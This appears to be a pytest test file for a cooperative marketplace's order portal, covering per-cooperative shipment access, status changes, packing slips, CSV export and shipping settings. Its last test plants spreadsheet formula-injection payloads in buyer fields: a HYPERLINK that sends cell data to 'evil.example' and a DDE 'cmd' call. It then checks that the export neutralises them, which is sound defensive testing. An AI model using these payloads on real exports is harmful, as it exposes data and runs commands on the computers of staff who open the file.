"""The cooperative's order portal: its own shipments only, status filters, confirm / ship /
deliver / cancel, packing slip, CSV export of a period, sales overview, shipping settings."""
import csv
import io
from datetime import date, datetime, timedelta

import pytest
import sqlalchemy as sa

from marketplace import clock
from marketplace.catalog.models import Product
from marketplace.extensions import db
from marketplace.orders import carts, fulfilment, reports
from marketplace.orders.models import Carrier, Order, Shipment, Status
from marketplace.producers.models import ApprovalStatus, Cooperative
from tests.factories import make_cooperative, make_cooperative_staff, make_product, sign_in_as
from tests.orders.conftest import place


def fresh(model, key):
    """The row as the database has it now (the pages changed it in their own sessions)."""
    db.session.expire_all()
    return db.session.get(model, key)


@pytest.fixture
def portal(client, two_cooperatives):
    """Staff of cooperative A signed in; an order with a part from A and a part from B."""
    coop_a, product_a, coop_b, product_b = two_cooperatives
    staff_a = make_cooperative_staff(coop_a, language="en")
    staff_b = make_cooperative_staff(coop_b)
    order = place((product_a, 2), (product_b, 1))
    db.session.commit()
    sign_in_as(client, staff_a)
    ship_a = next(s for s in order.shipments if s.cooperative_id == coop_a.id)
    ship_b = next(s for s in order.shipments if s.cooperative_id == coop_b.id)
    return {"client": client, "order": order, "a": ship_a, "b": ship_b, "staff_a": staff_a, "staff_b": staff_b,
            "product_a": product_a, "coop_a": coop_a}


def test_list_shows_only_this_cooperatives_shipments(portal, count_queries):
    client = portal["client"]
    with count_queries() as queries:
        html = client.get("/portal/orders?lang=en").get_data(as_text=True)
    assert f'/portal/orders/{portal["a"].id}"' in html and f'/portal/orders/{portal["b"].id}"' not in html
    assert "₫170,000" in html and "₫120,000" not in html
    for _ in range(5):
        place((portal["product_a"], 1))
    with count_queries() as more:
        client.get("/portal/orders?lang=en")
    assert len(more) == len(queries)


def test_other_cooperatives_shipments_are_404_everywhere(portal):
    client, other = portal["client"], portal["b"].id
    for path in ("", "/packing-slip"):
        assert client.get(f"/portal/orders/{other}{path}").status_code == 404
    for action in ("confirm", "deliver", "cancel", "ship"):
        assert client.post(f"/portal/orders/{other}/{action}", data={"reason": "x", "carrier": "own"}).status_code == 404
    assert fresh(Shipment, other).status == Status.PLACED
    assert client.get("/portal/orders/999999").status_code == 404


def test_status_filters(portal):
    client = portal["client"]
    fulfilment.confirm_shipment(portal["a"], portal["staff_a"])
    html = client.get("/portal/orders?status=confirmed&lang=en").get_data(as_text=True)
    assert portal["order"].number in html
    assert portal["order"].number not in client.get("/portal/orders?status=placed").get_data(as_text=True)
    assert portal["order"].number in client.get("/portal/orders?status=bogus").get_data(as_text=True)


def test_confirm_ship_deliver_through_the_pages(portal, outbox):
    client, shipment_id, order = portal["client"], portal["a"].id, portal["order"]
    html = client.get(f"/portal/orders/{shipment_id}?lang=en").get_data(as_text=True)
    assert 'id="confirm-shipment"' in html and "0912345678" in html
    client.post(f"/portal/orders/{shipment_id}/confirm")
    response = client.post(f"/portal/orders/{shipment_id}/ship?lang=en", data={"carrier": "ghtk", "tracking_number": ""})
    assert "Enter the tracking number of GHTK." in client.get(response.headers["Location"]).get_data(as_text=True)
    client.post(f"/portal/orders/{shipment_id}/ship", data={"carrier": "ghtk", "tracking_number": "S1234567.GHTK"})
    shipment = fresh(Shipment, shipment_id)
    assert (shipment.status, shipment.carrier, shipment.tracking_number) == (Status.SHIPPED, Carrier.GHTK, "S1234567.GHTK")
    assert outbox[-1]["To"] == "lan@example.vn" and outbox[-1]["Subject"] == f"Order {order.number} is on its way"
    assert "S1234567.GHTK" in outbox[-1].get_content()
    client.post(f"/portal/orders/{shipment_id}/deliver")
    assert fresh(Shipment, shipment_id).status == Status.DELIVERED
    html = client.get(f"/portal/orders/{shipment_id}?lang=en").get_data(as_text=True)
    assert "Nothing more to do." in html and portal["staff_a"].name in html  # the history says who


def test_illegal_moves_through_the_pages_show_a_message(portal):
    client, shipment_id = portal["client"], portal["a"].id
    response = client.post(f"/portal/orders/{shipment_id}/deliver?lang=en")
    html = client.get(response.headers["Location"] + "?lang=en").get_data(as_text=True)
    assert "This order cannot go to that status from Placed." in html
    assert fresh(Shipment, shipment_id).status == Status.PLACED


def test_cancel_with_reason_restores_stock(portal):
    client, shipment_id = portal["client"], portal["a"].id
    client.post(f"/portal/orders/{shipment_id}/cancel", data={"reason": ""})
    assert fresh(Shipment, shipment_id).status == Status.PLACED
    client.post(f"/portal/orders/{shipment_id}/cancel", data={"reason": "Hết hàng"})
    client.post(f"/portal/orders/{shipment_id}/cancel", data={"reason": "Hết hàng"})
    assert db.session.scalar(sa.select(Product.stock).where(Product.id == portal["product_a"].id)) == 10
    shipment = fresh(Shipment, shipment_id)
    assert (shipment.status, shipment.cancel_reason) == (Status.CANCELLED, "Hết hàng")
    assert fresh(Order, portal["order"].id).status == Status.PLACED  # B's part still stands


def test_packing_slip(portal):
    html = portal["client"].get(f"/portal/orders/{portal['a'].id}/packing-slip?lang=en").get_data(as_text=True)
    assert portal["order"].number in html and "Kẹo dừa sầu riêng" in html
    assert "Cash on delivery: collect ₫200,000" in html  # 2 × 85.000 + 30.000 shipping
    assert "Dầu dừa tinh khiết" not in html


def test_csv_export_of_a_period(portal):
    client = portal["client"]
    today = clock.today()
    response = client.get(f"/portal/orders/export?start={today:%Y-%m-%d}&end={today:%Y-%m-%d}")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0] == list(reports.EXPORT_HEADER)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1]))
    assert (row["order"], row["product"], row["quantity"], row["line_total_vnd"], row["shipping_fee_vnd"]) == (
        portal["order"].number, "Kẹo dừa sầu riêng", "2", "170000", "30000")
    earlier = today - timedelta(days=40)
    response = client.get(f"/portal/orders/export?start={earlier:%Y-%m-%d}&end={earlier:%Y-%m-%d}")
    assert len(list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))) == 1


@pytest.mark.parametrize(
    "query, message",
    [
        ("start=2026-02-01&end=2026-01-01", "The period must end on or after its first day."),
        ("start=2024-01-01&end=2026-01-01", "Export at most 366 days at once."),
        ("start=2026-13-45&end=2026-01-01", "Not a valid date value."),
        ("start=&end=", "Enter both dates of the period."),
    ],
)
def test_csv_export_refuses_bad_periods_with_a_message(portal, query, message):
    response = portal["client"].get(f"/portal/orders/export?lang=en&{query}")
    assert response.status_code == 200 and response.mimetype == "text/html"
    assert message in response.get_data(as_text=True)


def test_export_form(portal):
    html = portal["client"].get("/portal/orders/export?lang=en").get_data(as_text=True)
    assert 'type="date"' in html and "Download CSV" in html


def test_sales_overview_per_month_and_top_products(portal, monkeypatch):
    coop_a, product_a = portal["coop_a"], portal["product_a"]
    other = make_product(coop_a, name_vi="Mứt dừa", price_vnd=50000, stock=50)
    db.session.commit()
    place((other, 3))
    cancelled = place((product_a, 1))
    fulfilment.cancel_shipment(cancelled.shipments[0], None, "test")
    old = place((other, 1))
    db.session.execute(sa.update(Order).where(Order.id == old.id).values(placed_at=datetime(2020, 1, 1)))
    db.session.commit()
    overview = reports.sales_overview(coop_a)
    assert len(overview.months) == 12 and overview.months[-1].month == clock.today().replace(day=1)
    assert (overview.months[-1].revenue, overview.months[-1].units) == (170000 + 150000, 5)
    assert overview.revenue == 320000  # cancelled and older orders do not count
    assert [(p.name, p.revenue, p.units) for p in overview.top_products] == [
        ("Kẹo dừa sầu riêng", 170000, 2), ("Mứt dừa", 150000, 3)]
    html = portal["client"].get("/portal/sales?lang=en").get_data(as_text=True)
    assert "<svg" in html and 'class="chart-bar"' in html and "Top products" in html and "₫320,000" in html


def test_sales_months_follow_the_vietnamese_calendar(app, two_cooperatives):
    coop_a, product_a, _, _ = two_cooperatives
    order = place((product_a, 1))
    # 31 Jan 18:30 UTC is already 1 Feb in Vietnam (UTC+7).
    db.session.execute(sa.update(Order).where(Order.id == order.id).values(placed_at=datetime(2026, 1, 31, 18, 30)))
    db.session.commit()
    overview = reports.sales_overview(coop_a, months=2, today=date(2026, 2, 10))
    assert [(m.month, m.units) for m in overview.months] == [(date(2026, 1, 1), 0), (date(2026, 2, 1), 1)]


def test_shipping_settings(portal):
    client, coop_a = portal["client"], portal["coop_a"]
    html = client.get("/portal/shipping?lang=en").get_data(as_text=True)
    assert 'value="30.000"' in html and 'value="300.000"' in html
    client.post("/portal/shipping", data={"shipping_fee_vnd": "22.000 ₫", "free_shipping_from_vnd": ""})
    cooperative = fresh(Cooperative, coop_a.id)
    assert (cooperative.shipping_fee_vnd, cooperative.free_shipping_from_vnd) == (22000, None)


@pytest.mark.parametrize(
    "data, message",
    [
        ({"shipping_fee_vnd": "", "free_shipping_from_vnd": ""}, "Enter the fee in đồng, e.g. 30.000."),
        ({"shipping_fee_vnd": "-5", "free_shipping_from_vnd": ""}, "Enter the fee in đồng, e.g. 30.000."),
        ({"shipping_fee_vnd": "abc", "free_shipping_from_vnd": ""}, "Enter the fee in đồng, e.g. 30.000."),
        ({"shipping_fee_vnd": "20000000", "free_shipping_from_vnd": ""}, "Enter a shipping fee from 0 to 10.000.000 ₫."),
        ({"shipping_fee_vnd": "20000", "free_shipping_from_vnd": "lots"}, "Enter an amount in đồng"),
    ],
)
def test_shipping_settings_refuse_bad_amounts(portal, data, message):
    response = portal["client"].post("/portal/shipping?lang=en", data=data)
    assert response.status_code == 200 and message in response.get_data(as_text=True)
    assert fresh(Cooperative, portal["coop_a"].id).shipping_fee_vnd == 30000


def test_shipping_settings_apply_to_new_carts(client, app):
    cooperative = make_cooperative(shipping_fee_vnd=15000, free_shipping_from_vnd=100000)
    product = make_product(cooperative, price_vnd=60000)
    db.session.commit()
    summary = carts.summarise_cart({product.id: carts.CartItem(product.id, 1, 60000)})
    assert summary.shipping_total == 15000
    summary = carts.summarise_cart({product.id: carts.CartItem(product.id, 2, 60000)})
    assert summary.shipping_total == 0


def test_portal_pages_are_for_staff_of_approved_cooperatives(client, app):
    pending = make_cooperative(status=ApprovalStatus.PENDING)
    staff = make_cooperative_staff(pending)
    db.session.commit()
    sign_in_as(client, staff)
    assert client.get("/portal/orders").headers["Location"] == "/account/cooperative"



FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def test_the_csv_export_neutralises_formulas_typed_by_buyers(portal):
    order = place((portal["product_a"], 1), name=FORMULA_NAME, street="+1-1 Đường Lê Lợi",
                  note="@SUM(1+1)*cmd|' /C calc'!A0")
    db.session.commit()
    today = clock.today()
    response = portal["client"].get(f"/portal/orders/export?start={today:%Y-%m-%d}&end={today:%Y-%m-%d}")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == order.number)))
    assert row["buyer"] == "'" + FORMULA_NAME
    assert row["address"].startswith("'+1-1 Đường Lê Lợi, ")
    assert row["quantity"] == "1" and row["line_total_vnd"] == "85000"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)  # the note too, if ever exported
